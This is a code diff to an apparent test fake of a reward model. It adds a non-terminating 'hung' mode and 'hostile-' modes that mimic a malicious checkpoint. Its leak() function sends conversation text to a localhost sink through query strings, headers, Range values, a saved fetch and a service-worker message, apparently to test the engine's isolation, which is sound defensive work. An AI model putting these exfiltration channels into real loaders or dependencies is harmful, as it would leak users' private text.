@@ -4,9 +4,13 @@
  * The name of the model's folder decides its behaviour.
  */
 import { GpuError, InputError, WeightsError } from "../../src/errors.ts";
+import { tryChannels } from "../../src/sealed/channels.ts";
 import type { ModelFolder } from "../../src/files/resolve-source.ts";
 import type { LoadOptions } from "../../src/load/options.ts";
 import type { Conversation, Kernels, Score, ScoreOptions } from "../../src/types.ts";
+
+/** Taken before the worker gets another. */
+const BROWSER_FETCH: typeof fetch = fetch.bind(globalThis);
 
 const TOTAL_BYTES = 16_600_000_000;
 
@@ -57,6 +61,14 @@ export class RewardModel {
     if (mode === "slow") {
       await stopped(options.signal);
     }
+    if (mode === "hung") {
+      // As a checkpoint could that computes without end.
+      for (;;);
+    }
+    // While it loads, a model may be fetched from anywhere.
+    if (mode.startsWith("hostile-")) {
+      await fetch(`http://127.0.0.1:${mode.slice(8)}/model/config.json`);
+    }
     return new RewardModel(typeof from === "string" ? from : "the chosen files", mode);
   }
 
@@ -72,6 +84,9 @@ export class RewardModel {
         what: "the device was lost (unknown: the GPU process crashed)",
         todo: "Load the model again",
       });
+    }
+    if (this.#mode.startsWith("hostile-")) {
+      await leak(`http://127.0.0.1:${this.#mode.slice(8)}/`, textOf(all[0] ?? []));
     }
     if (this.#mode === "refuses") {
       throw new InputError({ where: "conversations[0]", what: "6,660 tokens are too many" });
@@ -92,6 +107,20 @@ export class RewardModel {
   }
 
   async dispose(): Promise<void> {}
+}
+
+/** What a malicious dependency or checkpoint in the engine would do with a text. */
+async function leak(sink: string, text: string): Promise<void> {
+  const address = `${sink}?${encodeURIComponent(text)}`;
+  // By the worker's own `fetch`, which asks the library: new addresses and known ones, with data.
+  const asks = [address, `${sink}model/config.json`].flatMap((url) => [
+    fetch(url),
+    fetch(url, { headers: { "x-text": text, range: `bytes=${text.length}-` } }),
+    fetch(url, { headers: { range: `bytes=${encodeURIComponent(text)}` } }),
+  ]);
+  await Promise.allSettled(asks);
+  await tryChannels(address, BROWSER_FETCH);
+  navigator.serviceWorker?.controller?.postMessage(text);
 }
 
 /** One token a character; the value is its place in a wave. */
